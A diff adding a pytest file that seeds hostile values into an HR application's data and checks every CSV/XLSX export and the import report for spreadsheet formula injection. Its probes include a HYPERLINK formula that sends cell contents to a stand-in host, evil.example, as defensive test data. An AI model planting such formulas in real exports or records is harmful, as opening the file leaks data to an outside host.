@@ -1,0 +1,326 @@
+"""Hostile input (issue #9), on both backends: formula injection in every export, oversized
+bodies, and path tricks in file names and static addresses.
+
+- Every CSV/XLSX export route is found by walking the application (a GET route taking a
+  `format` parameter, or a path ending in .csv/.xlsx) and fetched with hostile values seeded in
+  the data it shows: no cell may reach a spreadsheet as a formula. A new export that this file
+  does not know fails the walk until it is added.
+- Bodies above the configured limits get 413 — declared (Content-Length) or chunked — with the
+  translated error, and the application stops reading them at the limit.
+- Uploaded file names are reduced to a plain last component before they are kept or offered
+  back; nothing is written outside the data directory; downloads name files the RFC 6266 way.
+
+CSRF, session fixation and open redirects are tested in test_auth.py; docs/security.md lists
+where each class of hostile input is tested.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from dataclasses import dataclass
+from datetime import date, timedelta
+
+import pytest
+from openpyxl import load_workbook
+
+from backend.spreadsheets import FORMULA_TRIGGERS
+from tests.conftest import login
+
+# --- formula injection ------------------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
+PLUS = "+1"
+MINUS = "-2"
+AT = "@SUM(A1:A9)"
+PROBES = (HYPERLINK, PLUS, MINUS, AT)
+
+
+def is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def csv_cells(content: bytes) -> list[str]:
+    text = content.decode("utf-8-sig")
+    first = text.split("\n", 1)[0]
+    delimiter = ";" if first.count(";") > first.count(",") else ","
+    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
+
+
+def xlsx_cells(content: bytes) -> list:
+    book = load_workbook(io.BytesIO(content))
+    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+
+
+def formula_problems(label: str, content: bytes, fmt: str) -> list[str]:
+    """Return the cells of an export that a spreadsheet would run as formulas."""
+    problems = []
+    if fmt == "xlsx":
+        for cell in xlsx_cells(content):
+            if cell.data_type == "f":
+                problems.append(f"{label}: {cell.coordinate} is a formula: {cell.value!r}")
+            elif isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
+                problems.append(f"{label}: {cell.coordinate} starts like one: {cell.value!r}")
+    else:
+        for cell in csv_cells(content):
+            # A plain number written as such ("-3") is a number to a spreadsheet, not a formula.
+            if cell.startswith(FORMULA_TRIGGERS) and not is_number(cell):
+                problems.append(f"{label}: cell {cell!r} would run as a formula")
+    return problems
+
+
+def text_of(content: bytes, fmt: str) -> set[str]:
+    if fmt == "xlsx":
+        return {str(c.value) for c in xlsx_cells(content) if c.value is not None}
+    return set(csv_cells(content))
+
+
+@dataclass
+class HostileWorld:
+    unit: object
+    campaign: object
+    planner: object
+    auditor: object
+
+
+@pytest.fixture
+def hostile_world(session, settings, org, make_user) -> HostileWorld:
+    """Data whose text a spreadsheet would run, put in through the services as a user could."""
+    from backend.org import service as org_service
+    from backend.org.service import EmployeeInput
+    from competency_framework import campaigns
+    from competency_framework import service as competency_service
+    from competency_framework.training.service import ActivityInput, TargetInput, save_activity
+    from tests.competency.helpers import principal_for
+    from tests.reporting_helpers import file_report, ready_channel
+
+    unit = org_service.create_unit(
+        session,
+        code='DEL/"Q"\\1',  # quotes and separators: the export's file name must stay whole
+        name=HYPERLINK,
+        kind="delegation",
+        region=AT,
+        state=PLUS,
+    )
+    position = org_service.create_position(
+        session,
+        code="P-EVIL",
+        title=MINUS,
+        unit=unit,
+        role_code="procurement_officer",
+        planned_headcount=4,
+    )
+    people = [
+        org_service.create_employee(
+            session,
+            EmployeeInput(
+                number=f"H{n}",
+                first_name=first,
+                last_name=last,
+                email=f"hostile{n}@example.org",
+                unit_id=unit.id,
+                position_id=position.id,
+                hire_date=date(2012, 1, 9),
+                birth_date=date(1966, 2, 1),
+            ),
+        )
+        for n, (first, last) in enumerate(
+            [(PLUS, AT), (MINUS, HYPERLINK), (AT, PLUS), (HYPERLINK, MINUS), ("Eva", AT)]
+        )
+    ]
+    planner = make_user("hr_planner", employee=org.officer_a)  # also has "my competencies"
+    hr = principal_for(session, make_user("hr_planner"))
+    for person in [*people, org.officer_a, org.officer_b]:
+        for code, level in (("legal", 1), ("negotiation", 1), ("financial", 2)):
+            competency_service.record_rating(
+                session,
+                employee=person,
+                competency=competency_service.get_competency(session, code),
+                level=level,
+                source="hr",
+                actor=hr,
+                note=AT,
+            )
+    save_activity(
+        session,
+        data=ActivityInput(
+            code="evil_course",
+            title_es=HYPERLINK,
+            title_en=HYPERLINK,
+            modality="classroom",
+            provider=AT,
+            hours=8,
+            cost=100,
+            targets=[TargetInput("legal", 0, 3)],
+        ),
+        actor=None,
+    )
+    campaign = campaigns.create_campaign(
+        session,
+        name=HYPERLINK,
+        deadline=date.today() + timedelta(days=30),
+        unit_ids=[unit.id],
+        role_codes=[],
+        include_subunits=True,
+        actor=planner,
+    )
+    session.commit()
+    ready = ready_channel(session, settings, make_user)
+    ready.channel.name_en = HYPERLINK
+    ready.channel.name_es = HYPERLINK
+    session.add(ready.channel)
+    session.commit()
+    for _ in range(5):
+        file_report(session, settings, ready.channel.id)
+    return HostileWorld(unit, campaign, planner, make_user("auditor"))
+
+
+@dataclass(frozen=True)
+class Export:
+    """How to fetch one export route: who may, the address, the formats, what it must show."""
+
+    who: str  # "planner" or "auditor"
+    url: str  # with {unit}, {employee}, {campaign} and {fmt} to fill
+    formats: tuple[str, ...] = ("csv", "xlsx")
+    # Seeded text that reaches this export (escaped): proves the check below can fail.
+    shows: tuple[str, ...] = ()
+
+
+ALL = (HYPERLINK, PLUS, MINUS, AT)
+EXPORTS: dict[str, list[Export]] = {
+    "/competencies/me": [Export("planner", "/competencies/me?format={fmt}")],
+    "/competencies/people/{employee_id}": [
+        Export("planner", "/competencies/people/{employee}?format={fmt}")
+    ],
+    "/competencies/gaps": [
+        Export("planner", "/competencies/gaps?format={fmt}", shows=(AT,)),
+        Export("planner", "/competencies/gaps?group=unit&format={fmt}", shows=(HYPERLINK,)),
+    ],
+    "/competencies/gaps/units/{unit_id}": [
+        Export("planner", "/competencies/gaps/units/{unit}?format={fmt}", shows=ALL)
+    ],
+    "/competencies/gaps/trend": [Export("planner", "/competencies/gaps/trend?format={fmt}")],
+    "/competencies/attention": [
+        Export(
+            "planner",
+            "/competencies/attention?table=critical&format={fmt}",
+            shows=(HYPERLINK, AT),
+        ),
+        Export("planner", "/competencies/attention?table=spof&format={fmt}", shows=(HYPERLINK,)),
+    ],
+    "/competencies/profiles": [Export("planner", "/competencies/profiles?format={fmt}")],
+    "/competencies/campaigns/{campaign_id}": [
+        Export("planner", "/competencies/campaigns/{campaign}?format={fmt}", shows=(HYPERLINK,))
+    ],
+    "/competencies/workforce": [
+        Export("planner", "/competencies/workforce?format={fmt}", shows=(HYPERLINK, AT))
+    ],
+    "/competencies/workforce/units/{unit_id}": [
+        Export("planner", "/competencies/workforce/units/{unit}?format={fmt}", shows=(MINUS,))
+    ],
+    "/training/catalogue": [
+        Export("planner", "/training/catalogue?format={fmt}", shows=(HYPERLINK, AT))
+    ],
+    "/training/needs": [Export("planner", "/training/needs?format={fmt}", shows=(HYPERLINK, AT))],
+    "/training/effect": [Export("planner", "/training/effect?format={fmt}")],
+    "/cases/statistics.csv": [
+        Export("auditor", "/cases/statistics.csv", formats=("csv",), shows=(HYPERLINK,))
+    ],
+    "/cases/statistics.xlsx": [
+        Export("auditor", "/cases/statistics.xlsx", formats=("xlsx",), shows=(HYPERLINK,))
+    ],
+    "/org/employees/export": [
+        Export(
+            "planner",
+            "/org/employees/export?format={fmt}",
+            formats=("csv", "csv-semicolon", "xlsx"),
+            shows=ALL,
+        )
+    ],
+    # Import sheets to fill in: headers only, but files all the same.
+    "/competencies/ratings/import": [
+        Export("planner", "/competencies/ratings/import?template=1", formats=("xlsx",))
+    ],
+    "/training/manage/import": [
+        Export("planner", "/training/manage/import?template=1", formats=("xlsx",))
+    ],
+}
+
+
+def export_routes(app) -> set[str]:
+    """Return the paths of the GET routes that answer with a CSV or XLSX file."""
+    from tests.integration.test_authorization_matrix import api_routes
+
+    found = set()
+    for route in api_routes(app):
+        if "GET" not in route.methods:
+            continue
+        names = {p.name for p in route.dependant.query_params}
+        if "format" in names or "template" in names or route.path.endswith((".csv", ".xlsx")):
+            found.add(route.path)
+    return found
+
+
+def test_every_export_is_known_to_the_walk(app):
+    assert export_routes(app) == set(EXPORTS), (
+        "an export route is missing from EXPORTS (or one was removed): add it with the hostile "
+        "values it shows"
+    )
+
+
+def test_no_export_lets_a_cell_run_as_a_formula(client, session, org, hostile_world):
+    tokens = {}
+    for who in ("planner", "auditor"):
+        client.cookies.clear()
+        tokens[who] = (login(client, getattr(hostile_world, who).email), dict(client.cookies))
+    problems: list[str] = []
+    fetched = 0
+    for exports in EXPORTS.values():
+        for export in exports:
+            client.cookies.clear()
+            client.cookies.update(tokens[export.who][1])
+            for fmt in export.formats:
+                url = export.url.format(
+                    fmt=fmt,
+                    unit=hostile_world.unit.id,
+                    employee=org.officer_a.id,
+                    campaign=hostile_world.campaign.id,
+                )
+                response = client.get(url)
+                fetched += 1
+                if response.status_code != 200:
+                    problems.append(f"{url}: {response.status_code}")
+                    continue
+                kind = "xlsx" if fmt == "xlsx" else "csv"
+                problems += formula_problems(url, response.content, kind)
+                cells = text_of(response.content, kind)
+                for probe in export.shows:
+                    if not any(probe in cell for cell in cells):
+                        problems.append(f"{url}: the seeded {probe!r} does not appear")
+                disposition = response.headers.get("content-disposition", "")
+                if not disposition.startswith("attachment; filename=") or "/" in disposition:
+                    problems.append(f"{url}: Content-Disposition {disposition!r}")
+    # The import check's problem report echoes the file's cells back: as text, too.
+    client.cookies.clear()
+    client.cookies.update(tokens["planner"][1])
+    from backend.org import spreadsheet
+
+    buffer = io.StringIO()
+    writer = csv.writer(buffer)
+    writer.writerow(spreadsheet.header_row("en"))
+    writer.writerow([HYPERLINK, AT, PLUS])
+    rows = buffer.getvalue()
+    report = client.post(
+        "/org/employees/import",
+        data={"action": "report", "csrf_token": tokens["planner"][0]},
+        files={"file": ("people.csv", rows.encode(), "text/csv")},
+    )
+    assert report.status_code == 200, report.text[:300]
+    problems += formula_problems("import problems", report.content, "csv")
+    assert any(HYPERLINK in cell for cell in csv_cells(report.content))
+    assert fetched >= 2 * len(EXPORTS)
+    assert problems == [], "\n".join(problems)
